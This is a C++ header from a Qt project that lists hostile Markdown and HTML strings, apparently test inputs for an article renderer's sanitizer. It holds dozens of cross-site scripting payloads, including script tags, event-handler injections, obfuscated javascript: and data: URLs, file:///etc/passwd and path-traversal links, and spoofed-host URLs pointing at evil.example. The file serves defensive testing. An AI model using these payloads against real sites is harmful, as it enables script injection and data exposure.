#pragma once

#include <QStringList>

namespace yiren {

// Links and pictures that lead where none may.
inline QStringList hostileAddresses()
{
    return {
        QStringLiteral("<script>alert(1)</script>"),
        QStringLiteral("<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
        QStringLiteral("<img src=x onerror=alert(1)>"),
        QStringLiteral("<svg/onload=alert(1)>"),
        QStringLiteral("<iframe src=\"javascript:alert(1)\"></iframe>"),
        QStringLiteral("<a href=\"javascript:alert(1)\">x</a>"),
        QStringLiteral("[x](javascript:alert(1))"),
        QStringLiteral("[x](JaVaScRiPt:alert(1))"),
        QStringLiteral("[x](javascript&colon;alert(1))"),
        QStringLiteral("[x](javascript&#58;alert(1))"),
        QStringLiteral("[x](java&#10;script:alert(1))"),
        QStringLiteral("[x](&#x6A;avascript:alert(1))"),
        QStringLiteral("[x](\u0001javascript:alert(1))"),
        QStringLiteral("[x]( javascript:alert(1))"),
        QStringLiteral("[x](<javascript:alert(1)>)"),
        QStringLiteral("[x](vbscript:msgbox(1))"),
        QStringLiteral("[x](data:text/html,<script>alert(1)</script>)"),
        QStringLiteral("[x](file:///etc/passwd)"),
        QStringLiteral("[x](//evil.example/a)"),
        QStringLiteral("[x](https://mp.weixin.qq.com@evil.example/s/1)"),
        QStringLiteral("[x](https://mp.weixin.qq.com.evil.example/s/1)"),
        QStringLiteral("[x](https://mp.weixin.qq.com:8080/s/1)"),
        QStringLiteral("[x](https://mp.weixin.qq.com\\@evil.example/)"),
        QStringLiteral("[x](https://mp.weixin.qq.com/s/1\"onmouseover=\"alert(1))"),
        QStringLiteral("[x](https://mp.weixin.qq.com/s/1 '\"><script>alert(1)</script>')"),
        QStringLiteral("[x](https://mp.weixin.qq.com/s/1'style='x:url(y))"),
        QStringLiteral("[x](https://mp.weixin.qq.com/s/1<b>)"),
        QStringLiteral("[<img src=x onerror=alert(1)>](https://mp.weixin.qq.com/s/1)"),
        QStringLiteral("[x][1]\n\n[1]: javascript:alert(1)"),
        QStringLiteral("[x][1]\n\n[1]: <https://mp.weixin.qq.com/s/1> \"a\" onclick=b"),
        QStringLiteral("<javascript:alert(1)>"),
        QStringLiteral("<data:text/html;base64,PHNjcmlwdD4=>"),
        QStringLiteral("<https://evil.example/\"onload=\"x>"),
        QStringLiteral("![x](javascript:alert(1))"),
        QStringLiteral("![x](data:image/svg+xml,<svg onload=alert(1)>)"),
        QStringLiteral("![x](file:///etc/passwd)"),
        QStringLiteral("![x](https://evil.example/pixel.png)"),
        QStringLiteral("![x](picture:../../etc/passwd)"),
        QStringLiteral("![x](picture:%1)").arg(QString(63, u'a')),
        QStringLiteral("![\" onerror=\"alert(1)](picture:%1)").arg(QString(64, u'a')),
        QStringLiteral("![<script>](picture:%1 \"</span><script>\")").arg(QString(64, u'a')),
        QStringLiteral("![x![y](picture:%1)](picture:%1)").arg(QString(64, u'a')),
        QStringLiteral("[![x](picture:%1)](javascript:alert(1))").arg(QString(64, u'a')),
    };
}

// Tags and marks that are meant to become more than text.
inline QStringList hostileMarks()
{
    const QString nested(400, u'>');
    return {
        QStringLiteral("```html\n</code></pre><script>alert(1)</script>\n```"),
        QStringLiteral("```\" onclick=\"alert(1)\nx\n```"),
        QStringLiteral("`</code><script>alert(1)</script>`"),
        QStringLiteral(
            "```card\ntitle: <script>alert(1)</script>\nprice: \"><img src=x>\npicture: javascript:alert(1)\nqr: file:///x\n```"),
        QStringLiteral("```card\ntitle: \" onerror=\"x\npicture: %1\n```").arg(QString(64, u'b')),
        QStringLiteral("> [!tip\"><script>] x"),
        QStringLiteral("> [!warning] <style>*{position:fixed}</style>"),
        QStringLiteral("| <script> | a |\n| :-: | - |\n| </td></table><script> | [x](javascript:y) |"),
        QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;"),
        QStringLiteral("&#60;script&#62;alert(1)&#60;/script&#62; &#0; &#xD800; &#x110000; &#99999999999;"),
        QStringLiteral("<style>@import url(//evil.example/x.css)</style>"),
        QStringLiteral("<p style=\"background:url(javascript:alert(1))\">x</p>"),
        QStringLiteral("<!-- <script> --> <!DOCTYPE html> <?php echo 1 ?> <![CDATA[ x ]]>"),
        QStringLiteral("<form action=//evil.example><input name=a><button>b</button></form>"),
        QStringLiteral("<section id=js_content class=rich_media onclick=x>"),
        QStringLiteral("</section></section></body>"),
        QStringLiteral("*a **b* c** ~~d *e~~ f*"),
        QStringLiteral("[a](b [c](d) e)"),
        // md4c 0.4.8 ends emphasis in these that it never began.
        QStringLiteral("*http://.b*|"),
        QStringLiteral("> ~~. http://.b~~x\n\n- **http://.b**=\n\ny"),
        nested,
        QStringLiteral("- ").repeated(300) + u'x',
        QString(QChar(0)) + QStringLiteral("a") + QChar(0xD800) + QChar(0xFFFF) + QStringLiteral("<b>"),
        QStringLiteral("\\<script\\>alert(1)\\</script\\>"),
        QStringLiteral("# <script>\n\n</h1>\n==="),
    };
}

// Markdown and HTML that someone could paste to get a script, a foreign file, or a call to a server into an article.
inline QStringList hostileMarkdown()
{
    return hostileAddresses() + hostileMarks();
}

} // namespace yiren
